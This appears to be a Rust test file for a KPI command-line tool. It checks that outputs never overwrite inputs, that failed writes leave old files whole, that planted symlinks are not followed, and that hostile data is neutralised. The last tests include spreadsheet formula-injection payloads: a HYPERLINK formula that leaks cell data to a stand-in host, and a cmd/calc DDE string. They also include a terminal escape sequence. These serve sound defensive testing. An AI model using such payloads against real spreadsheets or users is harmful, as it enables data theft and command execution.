//! Nothing lost, nothing silently wrong on the way out: an output never written over
//! an input, files replaced whole or not at all, links in a statement folder not
//! followed, every write error naming its file, closed pipes ending quietly, and
//! text from the data made harmless for terminals and spreadsheets.

mod common;

use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use calamine::{Data, Reader, open_workbook_auto};
use common::{kpi, text};

const RULES: &str = "rulesets/agent_monthly.kpi";
const DATA: &str = "examples/agent_metrics.csv";
const FORMULAS: &str = "tests/fixtures/files/formulas/agents.csv";

/// An empty folder of its own for one test, holding a copy of the rule file and
/// the data file.
fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("kpi-files-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(RULES, dir.join("rules.kpi")).unwrap();
    std::fs::copy(DATA, dir.join("data.csv")).unwrap();
    dir
}

fn s(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// The names in `dir`, sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// `kpi` with `args` on what looks like a full disk: no file may grow past 512
/// bytes, so a write beyond that fails (EFBIG, as ENOSPC would). SIGXFSZ is ignored
/// first, and an ignored signal stays ignored across exec, so the write returns an
/// error rather than killing kpi.
fn kpi_on_a_full_disk(args: &[&str]) -> Output {
    Command::new("sh")
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 1; exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_kpi"))
        .args(args)
        .output()
        .expect("sh runs")
}

// 1. An output that is an input.

#[test]
fn an_output_that_is_one_of_the_inputs_is_refused_and_the_input_left_whole() {
    let dir = scratch("refused");
    let (rules, data) = (dir.join("rules.kpi"), dir.join("data.csv"));
    let link = dir.join("link.csv");
    std::os::unix::fs::symlink("data.csv", &link).unwrap();
    let rules_before = std::fs::read(&rules).unwrap();
    let data_before = std::fs::read(&data).unwrap();
    let refused = |args: &[&str], output: &Path, role: &str, input: &Path| {
        let out = kpi(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert_eq!(
            text(&out.stderr),
            format!(
                "error: cannot write {}: it is {role} {}, which this command reads; choose another output\n",
                output.display(),
                input.display()
            ),
            "{args:?}"
        );
        assert!(out.stdout.is_empty(), "{args:?}");
    };
    let (r, d, l) = (s(&rules), s(&data), s(&link));
    refused(&["eval", r, d, "-o", d], &data, "the data file", &data);
    refused(&["eval", r, d, "-o", r], &rules, "the rule file", &rules);
    refused(&["eval", r, d, "-o", l], &link, "the data file", &data);
    let explain = ["explain", r, d, "--key", "E01", "-o"];
    refused(
        &[&explain[..], &[d]].concat(),
        &data,
        "the data file",
        &data,
    );
    refused(&["report", r, d, "-o", r], &rules, "the rule file", &rules);
    refused(&["diff", r, r, d, "-o", d], &data, "the data file", &data);
    refused(
        &["diff", r, r, d, "-o", r],
        &rules,
        "the old rule file",
        &rules,
    );
    let rules_link = dir.join("rules-link.kpi");
    std::os::unix::fs::symlink(&rules, &rules_link).unwrap();
    let rl = s(&rules_link);
    refused(
        &["generate", r, "-o", rl],
        &rules_link,
        "the rule file",
        &rules,
    );
    // A copy under another name is another file, and may be written.
    std::fs::copy(&data, dir.join("copy.csv")).unwrap();
    let copy = dir.join("copy.csv");
    assert_eq!(kpi(&["eval", r, d, "-o", s(&copy)]).status.code(), Some(0));
    assert_eq!(std::fs::read(&rules).unwrap(), rules_before);
    assert_eq!(std::fs::read(&data).unwrap(), data_before);
}

#[test]
fn a_statement_that_would_land_on_an_input_is_not_written() {
    let dir = scratch("statement-on-input");
    // The data file sits in the statements' folder under the name key E01's would take.
    let data = dir.join("E01.txt");
    std::fs::rename(dir.join("data.csv"), &data).unwrap();
    let before = std::fs::read(&data).unwrap();
    // A .txt data file is read as CSV only by its name, so give it as a link.
    let link = dir.join("data.csv");
    std::os::unix::fs::symlink("E01.txt", &link).unwrap();
    let rules = dir.join("rules.kpi");
    let out = kpi(&[
        "explain",
        s(&rules),
        s(&link),
        "--all",
        "--lang",
        "en",
        "-o",
        s(&dir),
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        text(&out.stderr),
        format!(
            "record E01: cannot write {}: it is the data file {}, which this command reads; choose another output\n",
            data.display(),
            link.display()
        )
    );
    assert_eq!(std::fs::read(&data).unwrap(), before);
}

// 2. Writes that fail.

#[test]
fn a_write_that_fails_leaves_the_old_output_as_it_was_and_nothing_half_written() {
    let dir = scratch("full-disk");
    let (rules, data) = (dir.join("rules.kpi"), dir.join("data.csv"));
    let (r, d) = (s(&rules), s(&data));
    let cases: [(&str, Vec<&str>); 6] = [
        ("eval.csv", vec!["eval", r, d, "-o"]),
        ("explain.txt", vec!["explain", r, d, "--key", "E02", "-o"]),
        ("report.xlsx", vec!["report", r, d, "-o"]),
        ("report.html", vec!["report", r, d, "-o"]),
        ("diff.csv", vec!["diff", r, r, d, "--format", "csv", "-o"]),
        ("generate.csv", vec!["generate", r, "-n", "100", "-o"]),
    ];
    for (name, args) in cases {
        let output = dir.join(name);
        let args = [&args[..], &[s(&output)]].concat();
        std::fs::write(&output, "the previous good output\n").unwrap();
        let out = kpi_on_a_full_disk(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert_eq!(
            text(&out.stderr),
            format!(
                "error: cannot write {}: File too large (os error 27)\n",
                output.display()
            ),
            "{args:?}"
        );
        assert_eq!(
            std::fs::read_to_string(&output).unwrap(),
            "the previous good output\n",
            "{args:?}"
        );
        // With room, the same command replaces it.
        assert!(kpi(&args).status.code().unwrap() < 2, "{args:?}");
        assert_ne!(
            std::fs::read_to_string(&output).unwrap_or_default(),
            "the previous good output\n"
        );
    }
    let mut expected = vec![
        "data.csv",
        "diff.csv",
        "eval.csv",
        "explain.txt",
        "generate.csv",
        "report.html",
        "report.xlsx",
        "rules.kpi",
    ];
    expected.sort();
    assert_eq!(listing(&dir), expected, "no temporary file is left");
}

#[test]
fn fmt_that_cannot_write_leaves_the_rule_file_whole() {
    let dir = scratch("fmt-full-disk");
    let rules = dir.join("unformatted.kpi");
    std::fs::copy("tests/fixtures/files/atomic/unformatted.kpi", &rules).unwrap();
    let before = std::fs::read(&rules).unwrap();
    let out = kpi_on_a_full_disk(&["fmt", s(&rules)]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        text(&out.stderr),
        format!(
            "error: cannot write {}: File too large (os error 27)\n",
            rules.display()
        )
    );
    assert!(
        std::fs::read(&rules).unwrap() == before,
        "the rule file changed"
    );
    assert_eq!(listing(&dir), ["data.csv", "rules.kpi", "unformatted.kpi"]);
    // Formatting a file through a link rewrites the file and keeps the link.
    let link = dir.join("link.kpi");
    std::os::unix::fs::symlink("unformatted.kpi", &link).unwrap();
    assert_eq!(kpi(&["fmt", s(&link)]).status.code(), Some(0));
    assert!(link.symlink_metadata().unwrap().is_symlink());
    assert_eq!(kpi(&["fmt", "--check", s(&rules)]).status.code(), Some(0));
}

#[test]
fn statements_that_cannot_be_written_leave_no_empty_files_and_old_ones_whole() {
    let dir = scratch("statements-full-disk");
    let statements = dir.join("statements");
    std::fs::create_dir(&statements).unwrap();
    std::fs::write(statements.join("E01.txt"), "last month's statement\n").unwrap();
    let (rules, data) = (dir.join("rules.kpi"), dir.join("data.csv"));
    let args = [
        "explain",
        s(&rules),
        s(&data),
        "--all",
        "--lang",
        "en",
        "-o",
        s(&statements),
    ];
    let out = kpi_on_a_full_disk(&args);
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert_eq!(
        stderr.lines().next().unwrap(),
        format!(
            "record E01: cannot write {}: File too large (os error 27)",
            statements.join("E01.txt").display()
        )
    );
    assert_eq!(stderr.lines().count(), 60, "one line a record");
    assert_eq!(
        text(&out.stdout),
        format!("{}: 0 explanations written\n", statements.display())
    );
    let old = std::fs::read_to_string(statements.join("E01.txt")).unwrap();
    assert!(
        old == "last month's statement\n",
        "the old statement changed"
    );
    assert_eq!(listing(&statements), ["E01.txt"]);
}

// 3. Links planted among the statements.

#[test]
fn a_link_planted_under_a_statements_name_is_replaced_not_followed() {
    let dir = scratch("planted-link");
    let statements = dir.join("statements");
    std::fs::create_dir(&statements).unwrap();
    let victim = dir.join("victim.txt");
    std::fs::write(&victim, "not a statement\n").unwrap();
    std::os::unix::fs::symlink(&victim, statements.join("E01.html")).unwrap();
    std::os::unix::fs::symlink(dir.join("nowhere.txt"), statements.join("E02.html")).unwrap();
    let (rules, data) = (dir.join("rules.kpi"), dir.join("data.csv"));
    let out = kpi(&[
        "explain",
        s(&rules),
        s(&data),
        "--all",
        "--format",
        "html",
        "-o",
        s(&statements),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let victim_now = std::fs::read_to_string(&victim).unwrap();
    assert!(victim_now == "not a statement\n", "the link was followed");
    assert!(!dir.join("nowhere.txt").exists());
    for name in ["E01.html", "E02.html"] {
        let path = statements.join(name);
        assert!(path.symlink_metadata().unwrap().is_file(), "{name}");
        assert!(std::fs::read_to_string(&path).unwrap().contains("<html"));
    }
}

// 4. A folder that is not there.

#[test]
fn a_missing_folder_is_named_in_the_error() {
    let dir = scratch("missing-folder");
    let (rules, data) = (dir.join("rules.kpi"), dir.join("data.csv"));
    let (r, d) = (s(&rules), s(&data));
    let missing = dir.join("missing");
    let output = missing.join("out.csv");
    let o = s(&output);
    for args in [
        vec!["eval", r, d, "-o", o],
        vec!["explain", r, d, "--key", "E01", "-o", o],
        vec!["report", r, d, "-o", o],
        vec!["diff", r, r, d, "--format", "csv", "-o", o],
        vec!["generate", r, "-o", o],
    ] {
        let out = kpi(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert_eq!(
            text(&out.stderr),
            format!(
                "error: cannot write {}: there is no folder {}\n",
                output.display(),
                missing.display()
            ),
            "{args:?}"
        );
    }
    assert!(!missing.exists());
}

// 5. Closed pipes.

/// `kpi` with `args`, its standard output a pipe whose reader reads `lines` lines
/// and closes it; the exit status and what went to standard error.
fn with_stdout_closed_after(args: &[&str], lines: usize) -> (Option<i32>, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_kpi"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut reader = BufReader::new(child.stdout.take().unwrap());
    for _ in 0..lines {
        reader.read_line(&mut String::new()).unwrap();
    }
    drop(reader);
    let out = child.wait_with_output().unwrap();
    (out.status.code(), text(&out.stderr))
}

/// A pipe whose reader has already gone: every write to it fails, however small.
fn closed_pipe() -> std::io::PipeWriter {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    writer
}

/// `kpi` with `args`, its standard output a closed pipe; the exit status and what
/// went to standard error.
fn with_stdout_closed(args: &[&str]) -> (Option<i32>, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_kpi"))
        .args(args)
        .stdout(closed_pipe())
        .output()
        .unwrap();
    (out.status.code(), text(&out.stderr))
}

/// `kpi` with `args`, its standard error a closed pipe; the exit status and the
/// whole of standard output.
fn with_stderr_closed(args: &[&str]) -> (Option<i32>, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_kpi"))
        .args(args)
        .stderr(closed_pipe())
        .output()
        .unwrap();
    (out.status.code(), text(&out.stdout))
}

#[test]
fn a_closed_standard_output_ends_every_command_quietly_with_status_0() {
    let dir = scratch("stdout-closed");
    let big = dir.join("big.csv");
    let generated = kpi(&["generate", RULES, "-n", "20000", "-o", s(&big)]);
    assert_eq!(generated.status.code(), Some(0));
    let commands: [&[&str]; 9] = [
        &["eval", RULES, s(&big)],
        &["generate", RULES, "-n", "10"],
        &["explain", RULES, DATA, "--key", "E01"],
        &["explain", RULES, DATA, "--key", "E01", "--format", "json"],
        &["diff", RULES, RULES, DATA],
        &["coverage", RULES, DATA],
        &["test", RULES],
        &["check", RULES],
        // Not formatted (exit 1 with a reader), but nobody is reading.
        &[
            "fmt",
            "--check",
            "tests/fixtures/files/atomic/unformatted.kpi",
        ],
    ];
    for args in commands {
        assert_eq!(
            with_stdout_closed(args),
            (Some(0), String::new()),
            "{args:?}"
        );
    }
    // A reader that takes a line of a long output and stops, as `head -1` does.
    for args in [
        &["eval", RULES, s(&big)][..],
        &["generate", RULES, "-n", "200000"],
        &["diff", RULES, RULES, s(&big), "--format", "csv"],
    ] {
        assert_eq!(
            with_stdout_closed_after(args, 1),
            (Some(0), String::new()),
            "{args:?}"
        );
    }
}

#[test]
fn a_closed_standard_error_loses_the_messages_not_the_run() {
    let dir = scratch("stderr-closed");
    // Many records with a bad value: one message each.
    let mut bad = std::fs::read_to_string(DATA).unwrap();
    for n in 0..5000 {
        bad.push_str(&format!("X{n},坐席,T1,1,1,1,1,1,1,0,0,7O.5,80,1000.00\n"));
    }
    let data = dir.join("bad.csv");
    std::fs::write(&data, bad).unwrap();
    let (status, stdout) = with_stderr_closed(&["eval", RULES, s(&data)]);
    assert_eq!(status, Some(1), "the bad records still make it fail");
    assert_eq!(
        stdout.lines().count(),
        61,
        "the header and every good record"
    );
    // The message of a failure, after which kpi stops.
    let missing = dir.join("missing.csv");
    let (status, stdout) = with_stderr_closed(&["eval", RULES, s(&missing)]);
    assert_eq!((status, stdout), (Some(2), String::new()));
    let (status, _) = with_stderr_closed(&["explain", RULES, DATA, "--key", "nobody"]);
    assert_eq!(status, Some(1));
}

// 6. Terminal escapes and formulas.

#[test]
fn control_characters_in_data_reach_standard_error_shown_not_obeyed() {
    let dir = scratch("escapes");
    let mut data = std::fs::read_to_string(DATA).unwrap();
    data.push_str("\"E\u{1b}[31mX\rY\u{7}\",坐席,T1,1,1,1,1,1,1,0,0,7O.5,80,1000.00\n");
    let path = dir.join("escapes.csv");
    std::fs::write(&path, data).unwrap();
    let out = kpi(&["eval", RULES, s(&path)]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        text(&out.stderr),
        format!(
            "{}: line 62 (E\\u{{1b}}[31mX\\u{{d}}Y\\u{{7}}), column qa_score, value \"7O.5\": expected a number such as 87.5\n",
            path.display()
        )
    );
    // A file keeps the data as it is.
    let csv = dir.join("out.csv");
    kpi(&["eval", RULES, s(&path), "-o", s(&csv)]);
    assert!(!std::fs::read_to_string(&csv).unwrap().contains('\\'));
}

#[test]
fn text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_csv() {
    let out = kpi(&["eval", RULES, FORMULAS]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        text(&out.stdout),
        "agent_id,score,grade,payout\n\
         \"'=HYPERLINK(\"\"http://example.com/?leak=\"\"&A1,\"\"E02\"\")\",97.00,S,1850.00\n\
         '@SUM(A1:A9),70.50,B,960.00\n\
         '-2+3+cmd|' /C calc'!A0,62.00,C,620.03\n\
         -5,0.00,D,0.00\n\
         E06,65.00,C,977.28\n"
    );
    let verbatim = kpi(&["eval", RULES, FORMULAS, "--verbatim-text"]);
    assert_eq!(
        text(&verbatim.stdout),
        std::fs::read_to_string("tests/fixtures/files/formulas/verbatim.csv").unwrap()
    );
    let diff = kpi(&["diff", RULES, RULES, FORMULAS, "--format", "csv"]);
    let diff = text(&diff.stdout);
    let rows: Vec<&str> = diff.lines().collect();
    assert_eq!(
        rows[1],
        "\"'=HYPERLINK(\"\"http://example.com/?leak=\"\"&A1,\"\"E02\"\")\",97.00,97.00,0.00,S,S,1850.00,1850.00,0.00"
    );
    assert_eq!(
        rows[2],
        "'@SUM(A1:A9),70.50,70.50,0.00,B,B,960.00,960.00,0.00"
    );
    assert_eq!(rows[4], "-5,0.00,0.00,0.00,D,D,0.00,0.00,0.00");
}

/// The part of the .xlsx archive at `name`.
fn xlsx_part(path: &Path, name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut part = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut part)
        .unwrap();
    part
}

#[test]
fn formula_like_text_in_a_workbook_is_a_string_marked_as_text() {
    let dir = scratch("workbook-formulas");
    for (args, quoted) in [(&[][..], true), (&["--verbatim-text"][..], false)] {
        let report = dir.join("report.xlsx");
        let diff = dir.join("diff.xlsx");
        let out = kpi(&[&["report", RULES, FORMULAS, "-o", s(&report)], args].concat());
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let out = kpi(&[&["diff", RULES, RULES, FORMULAS, "-o", s(&diff)], args].concat());
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        for (path, sheet) in [(&report, "Results"), (&diff, "记录 Records")] {
            let mut book = open_workbook_auto(path).unwrap();
            let name = (book.sheet_names().into_iter())
                .find(|n| n.contains(sheet))
                .unwrap();
            // Written as strings, exactly: no cell is a formula.
            let cells = book.worksheet_range(&name).unwrap();
            assert_eq!(
                cells.get((1, 0)),
                Some(&Data::String(
                    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"E02\")".into()
                ))
            );
            assert_eq!(cells.get((2, 0)), Some(&Data::String("@SUM(A1:A9)".into())));
            let formulas = book.worksheet_formula(&name).unwrap();
            assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
            // Marked as text, so that editing the cell does not make it a formula.
            let styles = xlsx_part(path, "xl/styles.xml");
            assert_eq!(styles.contains("quotePrefix=\"1\""), quoted, "{path:?}");
        }
    }
}
